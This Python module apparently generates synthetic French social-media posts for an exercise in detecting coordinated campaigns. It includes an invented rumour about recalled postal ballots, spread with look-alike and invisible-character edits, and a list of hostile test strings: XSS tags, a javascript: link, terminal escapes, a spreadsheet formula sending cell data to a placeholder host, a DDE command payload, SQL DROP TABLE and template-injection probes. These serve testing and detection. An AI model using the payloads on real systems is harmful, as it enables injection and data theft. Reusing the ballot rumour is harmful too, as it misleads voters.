"""What is planted among the posts, and what merely looks like it: each scene is posts with their operation."""

# ruff: noqa: PLR2004 - a share or a size of a scene reads best where it is drawn
from __future__ import annotations

from dataclasses import dataclass
from math import sqrt
from typing import TYPE_CHECKING, Final

import numpy as np

from vigie.exercise import words
from vigie.exercise.draws import choose, rng, shrink
from vigie.exercise.world import DAY_S, DAYS, NEWSROOM, NEWSROOM_FEEDS, PLACES, START_S, day_s

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from vigie.exercise.truth import Truth

_PART: Final = 3
_FIRST_PUSH, _LAST_PUSH = 4, DAYS - 2

# The rumour is about an invented recall of postal ballots in an invented place; it accuses nobody.
COPYPASTA: Final = (
    (
        f"À faire suivre d'urgence : à {PLACES[0]} les bulletins envoyés par courrier seront tous rappelés lundi, "
        "gardez vos enveloppes et prévenez vos voisins avant qu'il ne soit trop tard"
    ),
    (
        f"Ma cousine travaille au centre de tri de {PLACES[1]}, elle a vu trois camions repartir avec les enveloppes "
        "de vote, personne n'en parle, partagez le plus possible"
    ),
    (
        f"Le bureau de {PLACES[4]} changera d'adresse la veille du scrutin sans prévenir les inscrits, vérifiez "
        "vous-mêmes et copiez ce message au lieu de le repartager"
    ),
    (
        f"Les stylos fournis à {PLACES[7]} s'effacent au bout d'une heure, apportez le vôtre et faites tourner ce "
        "message dans tous vos groupes dès maintenant"
    ),
)
_EMOJI: Final = ("⚠️", "🚨", "❗", "👉", "📢", "‼️", "🔁")
_LOOK_ALIKES: Final = str.maketrans({"a": "а", "e": "е", "o": "о", "c": "с"})  # noqa: RUF001 - Cyrillic, on purpose
HOSTILE: Final = (
    "<script>alert('exercice')</script> regardez cette page avant ce soir, elle change toutes les heures",
    '<img src=x onerror="document.title=1"> une image qui ne se charge pas chez moi, et chez vous ?',
    "\u202eegassem ec ed snes el ertned à ehcuag ed tiarttem eriotirid elôrtnoc nU\u202c",
    "\x1b[2J\x1b[31mTout est rouge\x1b[0m \x1b]0;titre changé\x07 dans mon terminal depuis hier soir",
    '=HYPERLINK("http://clic.example/?x="&A1;"ouvrir le tableau")',
    "+cmd|' /C calc'!A0 un tableau reçu ce matin, ne l'ouvrez pas sans regarder",
    "Deux espaces sans largeur\u200b\u200b, un trait\u00ad d'union souple et une marque\u2060 qui ne se voit pas",
    "Z̸̢͝a̷͓͘l̶̘̈g̵̰̾ȏ̶̼ écrit par-dessus les lignes voisines, c'est illisible sur mon téléphone",
    "[un lien](javascript:alert(1)) et ![une image](http://suivi.example/p.gif) pour voir ce que cela donne",
    "'; DROP TABLE posts; -- le petit frère de la blague que tout le monde connaît",
    "{{7*7}} ${7*7} <%= 7*7 %> quarante-neuf fois la même blague dans la file d'attente",
)


COPYPASTA_ID: Final = "posts-copypasta"


@dataclass(frozen=True, slots=True)
class Post:
    """One post of a scene. `operations` is empty for camouflage."""

    time_s: float
    channel_id: str
    text: str
    urls: tuple[str, ...] = ()
    operations: tuple[str, ...] = ()
    platform: str = "x"


@dataclass(frozen=True, slots=True)
class _Plan:
    """A network at full size: its letter, accounts, joint pushes, mean delay, and how many take part in a push."""

    letter: str
    accounts: int
    pushes: int
    jitter_s: float
    presence: float


def scenes(truth: Truth, crowd: list[str], *, scale: float, seed: int) -> list[Post]:
    """Declare every scene and return its posts, ascending in time; `crowd` are the channels of ordinary people."""
    k = shrink(scale)
    found = [
        *_network(truth, rng(seed, _PART, 1), k, _Plan("a", 18, 14, 6.0, 0.86)),
        *_network(truth, rng(seed, _PART, 2), k, _Plan("b", 6, 6, 3.0, 0.95)),
        *_copypasta(truth, rng(seed, _PART, 3), k),
        *_rush(truth, rng(seed, _PART, 4), k, crowd),
        *_weather(truth, rng(seed, _PART, 5), k),
        *_volunteers(truth, rng(seed, _PART, 6)),
        *_newsroom(truth, rng(seed, _PART, 7), k),
        *_hostile(truth, rng(seed, _PART, 8), crowd),
    ]
    return sorted(found, key=lambda post: (post.time_s, post.channel_id))


def size(n: int, k: float, least: int) -> int:
    """Return the size of a scene that has `n` at full size and `least` in a small exercise; `k` is from `shrink`."""
    return min(n, max(least, round(n * sqrt(k))))


def _network(truth: Truth, draw: np.random.Generator, k: float, plan: _Plan) -> Iterator[Post]:
    """Yield joint pushes of fresh links, seconds apart, in own words, and the accounts' ordinary posts between them."""
    members = handles(draw, size(plan.accounts, k, min(plan.accounts, 8)))
    pushes = size(plan.pushes, k, min(plan.pushes, 8))
    ident = truth.declare(
        f"posts-network-{plan.letter}", "planted", "coordinated_network",
        f"{len(members)} accounts push {pushes} links together, seconds apart",
        f"each is there in {plan.presence:.0%} of the pushes, in its own words; camouflage is not in rows.csv",
    )  # fmt: skip
    days = np.sort(draw.permutation(np.arange(_FIRST_PUSH, _LAST_PUSH))[:pushes])
    for number, day in enumerate(days.tolist()):
        url = f"https://revue-{plan.letter}-simulee.example/{words.noun(draw)}/{words.noun(draw)}-{number}"
        begins = START_S + day * DAY_S + draw.uniform(7, 20) * 3_600
        present = [m for m in members if draw.random() < plan.presence]
        for member, text in zip(present, words.french(draw, len(present)), strict=True):
            tracked = url + "?utm_source=x&utm_medium=social" if draw.random() < 0.2 else url
            time_s = begins + min(25.0, float(draw.exponential(plan.jitter_s)))
            yield Post(time_s, member, f"{text} {tracked}", (tracked,), (ident,))
    for member in members:
        n = int(draw.poisson(40 * k)) + 2
        for time_s, text in zip((draw.random(n) * DAYS * DAY_S).tolist(), words.french(draw, n), strict=True):
            yield Post(START_S + time_s, member, text)


def _copypasta(truth: Truth, draw: np.random.Generator, k: float) -> Iterator[Post]:
    """Yield a rumour in four texts, each posted by most accounts within two days, with small edits."""
    members = handles(draw, size(25, k, 10))
    ident = truth.declare(
        COPYPASTA_ID, "planted", "copied_text",
        f"{len(members)} accounts and two pages spread four texts about an invented recall of ballots",
        "edits: emoji, capitals, handles, look-alike letters, invisible characters; minutes to hours apart, no links",
    )  # fmt: skip
    pages = ("sim_page_voisins", "sim_page_quartier")
    for number, text in enumerate(COPYPASTA):
        begins = day_s(4, 7 + 4 * number, 8)
        for member in members:
            if draw.random() < 0.8:
                time_s = begins + float(draw.exponential(9 * 3_600))
                yield Post(time_s, member, edited(draw, text), (), (ident,))
        for page in pages:
            time_s = begins + 3_600 + float(draw.exponential(9 * 3_600))
            yield Post(time_s, page, edited(draw, text), (), (ident,), "facebook")


def edited(draw: np.random.Generator, text: str) -> str:
    """Return a text with one small edit: emoji, capitals, a handle, look-alike or unseen characters, signs; or none."""
    edits: tuple[Callable[[], str], ...] = (
        lambda: f"{choose(draw, _EMOJI)} {text} {choose(draw, _EMOJI)}",
        lambda: text.upper() + " !!!",
        lambda: f"@sim_{choose(draw, words.FIRST_NAMES)}{int(draw.integers(100))} {text}",
        lambda: "".join(c.translate(_LOOK_ALIKES) if draw.random() < 0.15 else c for c in text),
        lambda: text.replace(" ", " \u200b", int(draw.integers(1, 9))),
        lambda: text.replace(", ", " - ") + "...",
        lambda: text,
    )
    return choose(draw, edits)()


def _rush(truth: Truth, draw: np.random.Generator, k: float, crowd: list[str]) -> Iterator[Post]:
    """Yield several hundred unrelated people who post one link within a minute, a third by the page's share button."""
    n = min(len(crowd) // 3, round(400 * k))
    ident = truth.declare(
        "posts-breaking-news", "look_alike", "coordinated_network",
        f"Breaking news: {n} unrelated people post one link within a minute",
        "a third use the page's share button, which writes the headline",
    )  # fmt: skip
    headline = f"Coupure de courant à {PLACES[2]} : le réseau rétabli vers 19 heures, dit la régie"
    url = f"https://{NEWSROOM[1]}/2017/04/12/coupure-de-courant"
    people = [crowd[i] for i in draw.permutation(len(crowd))[:n].tolist()]
    own = words.french(draw, n)
    for person, text in zip(people, own, strict=True):
        said = headline if draw.random() < 1 / 3 else text
        yield Post(day_s(4, 12, 18, 42) + 60 * float(draw.beta(1.5, 3)), person, f"{said} {url}", (url,), (ident,))


def _weather(truth: Truth, draw: np.random.Generator, k: float) -> Iterator[Post]:
    """Yield three sister accounts that post one frame with other numbers."""
    ident = truth.declare(
        "posts-weather-bot", "look_alike", "copied_text", "Weather bot: one frame, other numbers, three towns"
    )
    hours = (7, 12, 18, 22) if k == 1 else (7,)
    for day in range(DAYS):
        for hour in hours:
            for place in PLACES[8:11]:
                degrees, wind, rain = (int(draw.integers(low, high)) for low, high in ((2, 24), (0, 70), (0, 100)))
                text = f"Météo {place}, {hour} h : {degrees} °C, vent {wind} km/h, risque de pluie {rain} %"
                handle = "sim_meteo_" + place.split("-")[0].lower()
                yield Post(START_S + day * DAY_S + (hour - 2) * 3_600 + 5, handle, text, (), (ident,))


def _volunteers(truth: Truth, draw: np.random.Generator) -> Iterator[Post]:
    """Yield eight people who post four links by appointment, within minutes, each in their own words."""
    ident = truth.declare(
        "posts-volunteers", "look_alike", "coordinated_network",
        "Eight volunteers post four links together, by appointment",
        "announced in public; minutes apart, every post in its author's own words",
    )  # fmt: skip
    members = handles(draw, 8)
    for number, (month, day) in enumerate(((3, 30), (4, 6), (4, 13), (4, 20))):
        url = f"https://benevoles-simules.example/soiree-{number + 1}"
        for member, text in zip(members, words.french(draw, len(members)), strict=True):
            time_s = day_s(month, day, 20) + float(draw.uniform(0, 300))
            yield Post(time_s, member, f"{text}. {words.about_a_candidate(draw)} {url}", (url,), (ident,))


def _newsroom(truth: Truth, draw: np.random.Generator, k: float) -> Iterator[Post]:
    """Yield two feeds of one newsroom that post the same link in the same second, by machine and openly."""
    ident = truth.declare(
        "posts-newsroom-feeds", "look_alike", "coordinated_network",
        "Two feeds of one newsroom post the same links in the same second",
        "legitimate automation: both are listed in the case file under one outlet",
    )  # fmt: skip
    for number in range(size(30, k, 10)):
        day = int(draw.integers(DAYS))
        url = f"https://{NEWSROOM[1]}/une/{words.noun(draw)}-{number}"
        time_s, text = START_S + day * DAY_S + draw.uniform(6, 21) * 3_600, words.french(draw, 1)[0]
        for feed in NEWSROOM_FEEDS:
            yield Post(time_s, feed, f"{text} {url}", (url,), (ident,))


def _hostile(truth: Truth, draw: np.random.Generator, crowd: list[str]) -> Iterator[Post]:
    """Yield texts that would do something if a program showed them carelessly."""
    ident = truth.declare(
        "posts-hostile-text",
        "look_alike",
        "copied_text",
        "Texts with markup, control characters, formulas: for the display",
    )
    for number, text in enumerate(HOSTILE):
        moment = START_S + draw.random() * DAYS * DAY_S
        platform, channel = ("facebook", "sim_page_divers") if number % 4 == 0 else ("x", choose(draw, crowd))
        yield Post(moment, channel, text, (), (ident,), platform)


def handles(draw: np.random.Generator, n: int) -> list[str]:
    """Draw `n` different handles, no ordinary person's (those have three digits or more)."""
    found: dict[str, None] = {}
    while len(found) < n:
        found[f"sim_{choose(draw, words.FIRST_NAMES)}_{words.noun(draw)}{int(draw.integers(10, 100))}"] = None
    return list(found)
